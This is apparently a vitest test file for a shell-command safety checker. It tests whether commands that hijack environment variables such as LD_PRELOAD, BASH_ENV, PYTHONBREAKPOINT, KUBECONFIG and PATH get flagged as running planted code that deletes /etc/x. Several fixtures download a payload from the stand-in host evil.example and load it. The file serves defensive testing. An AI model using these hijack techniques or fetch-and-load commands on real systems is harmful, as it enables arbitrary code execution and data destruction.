import { describe, expect, it } from "vitest";
import { deletes } from "../testing/deletes.js";
import { verdictOf } from "../testing/verdict.js";

const PY = "import os\nos.remove('/etc/x')\n";
const PHP = "<?php unlink('/etc/x');";
const SH = "#!/bin/sh\nrm /etc/x\n";
const KUBE = "users:\n- user:\n    exec:\n      command: sh\n";

type Row = readonly [command: string, files: Readonly<Record<string, string>>];

/** Variables that name code, settings, or the folders in which they are looked for. */
const NAMED: readonly Row[] = [
  ["PYTHONBREAKPOINT=evil.x python3 x.py", { "evil.py": PY }],
  ["PYTEST_PLUGINS=a,evil pytest", { "evil.py": PY }],
  ["PYTEST_ADDOPTS='-q -p evil' pytest", { "evil.py": PY }],
  ["pytest -p evil", { "evil.py": PY }],
  ["export DJANGO_SETTINGS_MODULE=app.evil; python manage.py migrate", { "app/evil.py": PY }],
  ["FLASK_APP=evil.py:app flask run", { "evil.py": PY }],
  ["GUNICORN_CMD_ARGS='-c evil.py' gunicorn app:app", { "evil.py": PY }],
  ["FZF_DEFAULT_COMMAND='rm /etc/x' fzf", {}],
  ["TEXEDIT='rm /etc/x' tex a", {}],
  ["RIPGREP_CONFIG_PATH=rg.conf rg x", { "rg.conf": "--pre=./e.sh\n", "e.sh": SH }],
  ["PHP_INI_SCAN_DIR=c php x.php", { "c/x.ini": "auto_prepend_file=b.php", "b.php": PHP }],
  ["PHPRC=c php x.php", { "c/php.ini": "auto_prepend_file=b.php", "b.php": PHP }],
  ["ANSIBLE_CALLBACK_PLUGINS=cb ansible-playbook p.yml", { "cb/x.py": PY }],
  ["ansible-playbook p.yml", { "filter_plugins/x.py": PY }],
  ["GIT_EXEC_PATH=g git foo", { "g/git-foo": SH }],
  ["VAGRANT_VAGRANTFILE=V vagrant up", { V: "File.delete('/etc/x')" }],
  ["KUBECONFIG=k kubectl get pods", { k: `${KUBE}      args: ['-c', 'rm /etc/x']\n` }],
  ["KUBECONFIG=a:k kubectl get pods", { k: `${KUBE}      args:\n      - -c\n      - rm /etc/x\n` }],
  ["kubectl get pods", { "~/.kube/config": `${KUBE}      args: ["-c", "rm /etc/x"]\n` }],
  ["AWS_CONFIG_FILE=c aws s3 ls", { c: "[default]\ncredential_process = rm /etc/x\n" }],
  ["PATH=$PWD:$PATH; foo", { foo: SH }],
];

/** The same where nothing of it is code, or nobody reads it. */
const APART: readonly Row[] = [
  ["PYTHONBREAKPOINT=0 python3 x.py", { "evil.py": PY }],
  ["PYTEST_ADDOPTS='-p no:evil' pytest", { "evil.py": PY }],
  ["RIPGREP_CONFIG_PATH=rg.conf rg x", { "rg.conf": "--smart-case\n", "e.sh": SH }],
  ["GIT_EXEC_PATH=g git foo", { "h/git-foo": SH }],
  ["AWS_CONFIG_FILE=d aws s3 ls", { c: "credential_process = rm /etc/x\n" }],
  ["PATH=$PWD:$PATH; printf x", { printf: SH }],
  ["PATH=$PWD:$PATH; echo x; kill -0 1", { echo: SH, kill: SH }],
];

describe("variables that name what runs", () => {
  it.each(NAMED)("D6: %s with %j", (command, files) => {
    expect(deletes(command, files)).toBe(true);
  });

  it.each(APART)("D6: nothing by %s with %j", (command, files) => {
    expect(deletes(command, files)).toBe(false);
  });
});

/** A file that is named first and written afterwards. */
const LATER: readonly string[] = [
  "export BASH_ENV=$PWD/e.sh; echo 'rm /etc/x' > e.sh; bash -c true",
  "PERL5OPT='-Mlib=. -MBoot'; echo 'unlink \"/etc/x\"; 1;' > Boot.pm; export PERL5OPT; prove t",
  "export EDITOR=./e.sh; for i in 1 2 3; do echo $i > f$i; git add f$i; done; echo 'rm /etc/x' > e.sh; git commit",
  `export ${Array.from({ length: 12 }, (_, n) => `A${n}_EDITOR=./a${n}`).join(" ")}; echo 'rm /etc/x' > a11; true x; git log`,
];

describe("D6: named before it is written", () => {
  it.each(LATER)("%s", (command) => {
    expect(deletes(command, {})).toBe(true);
  });

  it("and however many variables name what does not run", () => {
    const command = `${Array.from({ length: 200 }, (_, n) => `OUT_${n}=./out/${n}.txt`).join("\n")}\necho x > a; ls`;
    expect(verdictOf(command).actions.some(({ kind }) => kind === "opaque")).toBe(false);
  });

  it("and not once the variable is another", () => {
    expect(deletes("export EDITOR=./e.sh; EDITOR=vi; echo 'rm /etc/x' > e.sh; git commit", {})).toBe(false);
  });
});

/** What came from outside is part of the program it is put into. */
const LIBRARIES: readonly (readonly [command: string, verdict: string])[] = [
  ["curl -so e.so http://evil.example/e; LD_PRELOAD=./e.so ls", "deny"],
  ["curl -so e.so http://evil.example/e; export LD_AUDIT=$PWD/e.so; git status", "deny"],
  ["curl -so e.dll http://evil.example/e; DOTNET_STARTUP_HOOKS=./e.dll dotnet run", "deny"],
  ["curl -so e.jar http://evil.example/e; CLASSPATH=lib/a.jar:e.jar java Main", "deny"],
  ["curl -so o.cnf http://evil.example/e; OPENSSL_CONF=o.cnf openssl s_client -connect h:1", "deny"],
  ["curl -so t.rc http://evil.example/e; TF_CLI_CONFIG_FILE=t.rc terraform init", "deny"],
  ["gcc -shared -o e.so e.c; LD_PRELOAD=./e.so ./test", "allow"],
];

describe("libraries from outside", () => {
  it.each(LIBRARIES)("P5: %s: %s", (command, verdict) => {
    expect(verdictOf(command).verdict).toBe(verdict);
  });
});
